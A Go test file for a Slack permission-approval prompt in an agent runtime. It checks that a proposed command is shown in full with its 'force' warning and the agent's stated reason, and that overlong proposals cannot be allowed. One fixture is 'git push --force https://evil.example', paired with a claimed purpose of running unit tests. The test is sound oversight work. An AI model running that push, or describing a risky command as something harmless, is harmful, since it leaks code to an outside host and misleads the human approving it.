package slack

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/deskhand/deskhand/runtime/elicit"
)

// A message shows a permission request completely, or offers no way to allow it.
func TestAttackApprovalsAMessageShowsAProposalWhole(t *testing.T) {
	for name, c := range map[string]struct {
		text  string
		allow bool
	}{
		"short":    {"git push --force https://evil.example", true},
		"long":     {strings.Repeat("echo one line\n", 800), true},
		"too long": {strings.Repeat("echo one line\n", 4000), false},
	} {
		t.Run(name, func(t *testing.T) {
			r, err := elicit.Prepare(elicit.Request{Trigger: elicit.ACPPermission, Title: "Allow it?", Message: "The agent says: Run the unit tests",
				Proposal:  &elicit.Proposal{Action: "command", Text: c.text, Marks: []string{"force"}},
				Questions: []elicit.Question{{ID: "answer", Kind: elicit.SingleSelect, Message: "Allow?", Required: true, Options: elicit.OptionsOf("Yes, allow", "Reject")}}})
			if err != nil {
				t.Fatal(err)
			}
			r.ID, r.Status = "elc_1", elicit.Open
			var blocks []struct{ Text struct{ Text string } }
			raw, err := json.Marshal(render(&r).blocks)
			if err != nil || json.Unmarshal(raw, &blocks) != nil {
				t.Fatalf("blocks %s, %v", raw, err)
			}
			var all strings.Builder
			for _, b := range blocks {
				all.WriteString(b.Text.Text)
			}
			if got := strings.Contains(string(raw), "Yes, allow"); got != c.allow {
				t.Errorf("it can be allowed: %v, want %v", got, c.allow)
			}
			squeezed := func(s string) string { return strings.Join(strings.Fields(s), "") }
			if c.allow && !strings.Contains(squeezed(all.String()), squeezed(c.text)) {
				t.Errorf("the message lacks a part of the proposal: %.300s", all.String())
			}
			if !strings.Contains(string(raw), "Check carefully: force") || !strings.Contains(string(raw), "Run the unit tests") {
				t.Errorf("the message lacks the warning or the agent's words: %.300s", raw)
			}
		})
	}
}
